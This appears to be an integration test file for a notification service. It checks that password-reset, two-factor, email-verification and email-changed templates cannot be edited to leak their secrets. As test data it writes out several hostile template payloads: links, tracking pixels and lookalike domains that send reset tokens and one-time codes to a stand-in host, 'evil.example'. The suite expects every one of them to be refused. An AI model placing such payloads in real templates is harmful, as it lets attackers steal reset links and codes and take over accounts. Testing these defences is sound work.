import { randomBytes, randomUUID } from 'node:crypto';
import { EventContract, PASSWORD_RESET_REQUESTED, TWO_FACTOR_CODE_REQUESTED } from '@orion/contracts';
import { eventStreamName } from '@orion/core';
import {
  eventually,
  PrivateRedis,
  sealForTest,
  SinkMail,
  SmtpSink,
  startPrivateRedis,
  producedStreamEntry,
} from '@orion/testing';
import { NotificationServiceUnderTest } from './support/notification-service';

const user = NotificationServiceUnderTest.user;
const TEMPLATES = '/api/v1/templates';
/** The auth service's PASSWORD_RESET_URL in this suite: every reset link must lead there. */
const RESET_URL = 'https://app.orion.test/reset-password';
const resetUrl = {
  name: 'resetUrl',
  type: 'url',
  required: true,
  sensitive: true,
  sample: `${RESET_URL}?token=s`,
};
const expiresInMinutes = { name: 'expiresInMinutes', type: 'number', required: true, sample: 30 };
const code = { name: 'code', type: 'string', required: true, sensitive: true, sample: '123456' };

type Actor = { apiKey: string } | { as: string };

/** A reset draft in one locale; the tests vary its markup and declarations. */
const resetDraft = (
  email: { text: string; html?: string },
  variables: Record<string, unknown>[] = [resetUrl, expiresInMinutes],
) => ({ draft: { variables, content: { en: { EMAIL: { subject: 'Reset your password', ...email } } } } });

const codeDraft = (
  email: { text: string; html?: string },
  variables: Record<string, unknown>[] = [code, expiresInMinutes],
) => ({ draft: { variables, content: { en: { EMAIL: { subject: 'Your sign-in code', ...email } } } } });

/** Every href and src in an e-mail's HTML. */
const targetsOf = (html: string | undefined): string[] =>
  [...(html ?? '').matchAll(/\b(?:href|src)\s*=\s*"([^"]*)"/gi)].map((m) => m[1].replace(/&amp;/g, '&'));

/**
 * The templates that carry reset links and sign-in codes, attacked over HTTP by holders of
 * templates:manage (an API key and a user with the admin role) and by a holder of
 * templates:manage-system; the messages are the ones the real SMTP sink receives after the
 * events arrive on this suite's own Redis, as the auth service's relay would add them.
 */
describe('system templates: the secret goes where the service says', () => {
  let redis: PrivateRedis;
  let smtp: SmtpSink;
  let service: NotificationServiceUnderTest;
  let editorKey: string;
  let systemKey: string;
  let editorUser: string;
  const sharedRedis = process.env.TEST_REDIS_URL;

  beforeAll(async () => {
    [redis, smtp] = await Promise.all([startPrivateRedis(), SmtpSink.start()]);
    process.env.TEST_REDIS_URL = redis.url;
    service = await NotificationServiceUnderTest.start(
      {
        SMTP_HOST: '127.0.0.1',
        SMTP_PORT: String(smtp.port),
        NOTIFICATION_APP_URL: 'https://app.orion.test',
      },
      { seed: true },
    );
    editorKey = (await service.apiKey(['templates:read', 'templates:manage'])).key;
    systemKey = (await service.apiKey(['templates:read', 'templates:manage', 'templates:manage-system'])).key;
    editorUser = await userWithRole('admin');
  }, 120_000);

  afterAll(async () => {
    await service?.stop();
    await smtp?.stop();
    await redis?.stop();
    if (sharedRedis === undefined) delete process.env.TEST_REDIS_URL;
    else process.env.TEST_REDIS_URL = sharedRedis;
  });

  /** An active account holding one role of the seeded chain (admin: templates:manage, not -system). */
  async function userWithRole(role: string): Promise<string> {
    const id = randomUUID();
    const email = `editor-${randomBytes(3).toString('hex')}@example.com`;
    await service.users.query(
      `INSERT INTO users (id, email, email_normalized, status, display_name, email_verified_at, updated_at)
       VALUES ($1, $2, $2, 'ACTIVE', 'Template Editor', now(), now())`,
      [id, email],
    );
    await service.users.query(
      `INSERT INTO user_roles (user_id, role_id, updated_at) SELECT $1, id, now() FROM roles WHERE slug = $2`,
      [id, role],
    );
    return id;
  }

  const call = (method: string, url: string, actor: Actor, body?: unknown) =>
    service.call(method, url, { ...actor, body });

  async function stateOf(key: string) {
    const [row] = await service.query<{ active_version: number; draft: unknown; deleted_at: Date | null }>(
      'SELECT active_version, draft, deleted_at FROM templates WHERE key = $1',
      [key],
    );
    const versions = await service.query(
      'SELECT version FROM template_versions tv JOIN templates t ON t.id = tv.template_id WHERE t.key = $1',
      [key],
    );
    return { ...row, versions: versions.length };
  }

  /** Puts the draft and publishes it; answers the first refusal, or the publish answer. */
  async function publish(key: string, actor: Actor, body: unknown) {
    const put = await call('PUT', `${TEMPLATES}/${key}/draft`, actor, body);
    if (put.statusCode !== 200) return put;
    return call('POST', `${TEMPLATES}/${key}/publish`, actor);
  }

  /** Adds the event as the producer's relay would and returns the e-mail the sink received for it. */
  async function mailFor(
    contract: EventContract<unknown>,
    payload: Record<string, unknown>,
  ): Promise<SinkMail> {
    const id = randomUUID();
    const entry = producedStreamEntry({ id, name: contract.name, payload, meta: {}, occurredAt: new Date() });
    await service.redis.xadd(eventStreamName(service.namespace, contract.name), '*', ...entry);
    const row = await eventually(
      async () =>
        (
          await service.query<{ id: string }>(
            `SELECT id FROM notifications WHERE idempotency_key = $1 AND channel = 'EMAIL'`,
            [`event:${id}`],
          )
        )[0],
      `an e-mail from ${contract.name}`,
      { timeoutMs: 20_000 },
    );
    return smtp.waitForMessage((m) => m.headers['x-orion-notification-id'] === row.id, 20_000);
  }

  const resetRequested = (token: string) => {
    const now = Date.now();
    return {
      userId: user.id,
      email: user.email,
      // Sealed for this service, as the auth service sends it.
      resetUrl: sealForTest(
        'notification',
        PASSWORD_RESET_REQUESTED,
        'resetUrl',
        `${RESET_URL}?token=${token}`,
      ),
      expiresAt: new Date(now + 30 * 60_000).toISOString(),
      occurredAt: new Date(now).toISOString(),
    };
  };
  const codeRequested = (oneTimeCode: string) => {
    const now = Date.now();
    return {
      userId: user.id,
      channel: 'email',
      destination: user.email,
      oneTimeCode: sealForTest('notification', TWO_FACTOR_CODE_REQUESTED, 'oneTimeCode', oneTimeCode),
      expiresAt: new Date(now + 5 * 60_000).toISOString(),
      occurredAt: new Date(now).toISOString(),
    };
  };

  it('refuses a templates:manage key or user any change to auth.password-reset (403), so the link cannot be redirected', async () => {
    const evil = resetDraft({
      text: 'Reset at https://evil.example/?t={{resetUrl}}',
      html: '<a href="https://evil.example/?t={{resetUrl}}">Reset</a>',
    });
    const actors: Actor[] = [{ apiKey: editorKey }, { as: editorUser }];
    for (const actor of actors) {
      for (const [method, path, body] of [
        ['PUT', `${TEMPLATES}/auth.password-reset/draft`, evil],
        ['PUT', `${TEMPLATES}/auth.password-reset/draft`, { defaultChannels: ['SMS'] }],
        ['POST', `${TEMPLATES}/auth.password-reset/publish`, undefined],
        ['POST', `${TEMPLATES}/auth.password-reset/versions/1/restore`, undefined],
        ['DELETE', `${TEMPLATES}/auth.password-reset`, undefined],
      ] as const) {
        const answer = await call(method, path, actor, body);
        expect({ method, path, status: answer.statusCode, code: answer.json().code }).toEqual({
          method,
          path,
          status: 403,
          code: 'PERMISSION_DENIED',
        });
        expect(answer.json().permission).toBe('templates:manage-system');
      }
    }
    expect(await stateOf('auth.password-reset')).toEqual({
      active_version: 1,
      draft: null,
      deleted_at: null,
      versions: 1,
    });
    // Reading stays open to them.
    expect((await call('GET', `${TEMPLATES}/auth.password-reset`, { apiKey: editorKey })).json().system).toBe(
      true,
    );

    const mail = await mailFor(PASSWORD_RESET_REQUESTED, resetRequested('tok-editor'));
    expect(targetsOf(mail.html)).toEqual([`${RESET_URL}?token=tok-editor`]);
    expect(mail.text).toContain(`${RESET_URL}?token=tok-editor`);
    expect(mail.raw).not.toContain('evil.example');
  });

  it('refuses (422) even a templates:manage-system holder a version that moves, copies or unmarks the reset link', async () => {
    const good = { text: 'Reset at [[secret]] soon.', html: '<p>[[secret|Reset]]</p>' };
    const variants: [string, unknown][] = [
      [
        'the URL variable in an href of its own',
        resetDraft({ ...good, html: `${good.html}<a href="https://evil.example/?t={{resetUrl}}">x</a>` }),
      ],
      ['the URL variable raw, triple-stashed', resetDraft({ ...good, text: `${good.text} {{{resetUrl}}}` })],
      [
        'the URL variable through @root',
        resetDraft({ ...good, html: `${good.html}<img src="https://evil.example/?t={{@root.resetUrl}}">` }),
      ],
      [
        'a link of its own with a token variable of its own, no slot',
        resetDraft(
          {
            text: 'Reset at https://evil.example/?t={{token}}',
            html: '<a href="https://evil.example/?t={{token}}">Reset</a>',
          },
          [{ name: 'token', type: 'string', required: false, sample: 'x' }, resetUrl],
        ),
      ],
      [
        'the slot inside its own href',
        resetDraft({ ...good, html: '<a href="https://evil.example/?t=[[secret]]">Reset</a>' }),
      ],
      [
        'the slot glued to its own URL in the text',
        resetDraft({ ...good, text: 'Reset at https://evil.example/?u=[[secret]]' }),
      ],
      ['the slot twice', resetDraft({ ...good, text: '[[secret]] and [[secret]]' })],
      [
        'the URL variable no longer sensitive',
        resetDraft(good, [{ ...resetUrl, sensitive: false }, expiresInMinutes]),
      ],
      ['the URL variable renamed', resetDraft(good, [{ ...resetUrl, name: 'resetLink' }, expiresInMinutes])],
      [
        'the URL variable made a string',
        resetDraft(good, [{ ...resetUrl, type: 'string' }, expiresInMinutes]),
      ],
    ];
    for (const [name, body] of variants) {
      const answer = await publish('auth.password-reset', { apiKey: systemKey }, body);
      expect({ name, status: answer.statusCode, code: answer.json().code }).toEqual({
        name,
        status: 422,
        code: 'TEMPLATE_INVALID',
      });
    }
    const state = await stateOf('auth.password-reset');
    expect(state.active_version).toBe(1);
    expect(state.versions).toBe(1);
  });

  it('lets a templates:manage-system holder re-word it; the delivered e-mail still links to the reset URL with the token', async () => {
    const reworded = resetDraft({
      text: 'Forgot it? Pick another one here: [[secret]]\n(valid {{expiresInMinutes}} minutes)',
      html: '<p>Forgot it?</p><p>[[secret|Pick another one]]</p><p><a href="https://help.orion.test/">Help</a></p>',
    });
    const published = await publish('auth.password-reset', { apiKey: systemKey }, reworded);
    expect(published.statusCode).toBe(201);
    expect(published.json().version).toBe(2);

    const mail = await mailFor(PASSWORD_RESET_REQUESTED, resetRequested('tok-reworded'));
    expect(mail.text).toContain(`Pick another one here: ${RESET_URL}?token=tok-reworded`);
    expect(mail.html).toContain(`<a href="${RESET_URL}?token=tok-reworded"`);
    expect(mail.html).toContain('>Pick another one</a>');
    expect(targetsOf(mail.html)).toEqual([`${RESET_URL}?token=tok-reworded`, 'https://help.orion.test/']);
    expect(mail.raw).not.toContain('[[secret');
  });

  it('guards the two-factor code template the same way: 403 for templates:manage, 422 for a leaking version, the code only where the service puts it', async () => {
    const leak = codeDraft({
      text: 'Code: [[secret]]',
      html: '<p>[[secret]]</p><img src="https://evil.example/pixel?c={{code}}">',
    });
    expect((await publish('auth.two-factor-code', { apiKey: editorKey }, leak)).statusCode).toBe(403);
    expect((await publish('auth.two-factor-code', { as: editorUser }, leak)).statusCode).toBe(403);
    for (const body of [
      leak,
      codeDraft({ text: 'Code: {{{code}}}', html: '<p>{{code}}</p>' }),
      codeDraft({ text: 'Code: [[secret]]', html: '<img src="https://evil.example/?c=[[secret]]">' }),
      codeDraft({ text: 'Code: [[secret]]', html: '<p>[[secret]]</p>' }, [
        { ...code, sensitive: false },
        expiresInMinutes,
      ]),
    ]) {
      const answer = await publish('auth.two-factor-code', { apiKey: systemKey }, body);
      expect({ status: answer.statusCode, code: answer.json().code }).toEqual({
        status: 422,
        code: 'TEMPLATE_INVALID',
      });
    }
    expect((await stateOf('auth.two-factor-code')).versions).toBe(1);

    const reworded = codeDraft({
      text: 'Here is your code: [[secret]] ({{expiresInMinutes}} min).',
      html: '<p>Here is your code: <strong>[[secret]]</strong></p>',
    });
    expect((await publish('auth.two-factor-code', { apiKey: systemKey }, reworded)).statusCode).toBe(201);
    const mail = await mailFor(TWO_FACTOR_CODE_REQUESTED, codeRequested('482913'));
    expect(mail.text).toContain('Here is your code: 482913 (5 min).');
    expect(mail.html).toContain('<strong>482913</strong>');
    expect(targetsOf(mail.html)).toEqual([]);
  });

  it.each([
    ['auth.email-verification', 'verificationUrl'],
    ['security.email-changed', 'undoUrl'],
  ])(
    'guards the link of %s the same way: 403 for templates:manage, 422 for a link of its own',
    async (key, name) => {
      const variable = {
        name,
        type: 'url',
        required: true,
        sensitive: true,
        sample: 'https://app.orion.test/x?token=s',
      };
      const evil = {
        draft: {
          variables: [variable],
          content: {
            en: {
              EMAIL: {
                subject: 'Action needed',
                text: 'Go to [[secret]]',
                html: `<p>[[secret|Go]]</p><a href="https://evil.example/?t={{${name}}}">Go</a>`,
              },
            },
          },
        },
      };
      const refused = await publish(key, { apiKey: editorKey }, evil);
      expect({ status: refused.statusCode, code: refused.json().code }).toEqual({
        status: 403,
        code: 'PERMISSION_DENIED',
      });
      const invalid = await publish(key, { apiKey: systemKey }, evil);
      expect({ status: invalid.statusCode, code: invalid.json().code }).toEqual({
        status: 422,
        code: 'TEMPLATE_INVALID',
      });
      expect((await stateOf(key)).versions).toBe(1);
    },
  );

  it('refuses a sender a system template whose link leads off the app (422), storing and sending nothing', async () => {
    const sender = (await service.apiKey(['notifications:send'])).key;
    const before = smtp.messages().length;
    for (const url of [
      'https://evil.example/reset-password?token=t',
      'https://app.orion.test.evil.example/r?token=t',
    ]) {
      const answer = await service.call('POST', '/api/v1/notifications', {
        apiKey: sender,
        body: {
          recipient: { email: 'victim@example.com' },
          template: { key: 'auth.password-reset' },
          channels: ['EMAIL'],
          variables: { resetUrl: url, expiresInMinutes: 30 },
        },
      });
      expect({ url, status: answer.statusCode, code: answer.json().code }).toEqual({
        url,
        status: 422,
        code: 'TEMPLATE_VARIABLES_INVALID',
      });
    }
    expect(
      await service.query(`SELECT id FROM notifications WHERE recipient = 'victim@example.com'`),
    ).toEqual([]);
    expect(smtp.messages().length).toBe(before);
  });

  it('never deletes a system template: 403 without templates:manage-system, 409 with it', async () => {
    for (const key of ['auth.email-verification', 'security.email-changed', 'security.new-device-sign-in']) {
      expect((await call('DELETE', `${TEMPLATES}/${key}`, { apiKey: editorKey })).statusCode).toBe(403);
      const refused = await call('DELETE', `${TEMPLATES}/${key}`, { apiKey: systemKey });
      expect({ key, status: refused.statusCode, code: refused.json().code }).toEqual({
        key,
        status: 409,
        code: 'SYSTEM_TEMPLATE_NOT_DELETABLE',
      });
      expect((await stateOf(key)).deleted_at).toBeNull();
    }
    // An ordinary template stays the editors' own.
    const created = await call(
      'POST',
      TEMPLATES,
      { apiKey: editorKey },
      {
        key: 'billing.receipt',
        category: 'BILLING',
        variables: [],
        content: { en: { EMAIL: { subject: 'Receipt', text: 'Thanks' } } },
      },
    );
    expect(created.json().system).toBe(false);
    expect((await call('DELETE', `${TEMPLATES}/billing.receipt`, { apiKey: editorKey })).statusCode).toBe(
      204,
    );
  });
});
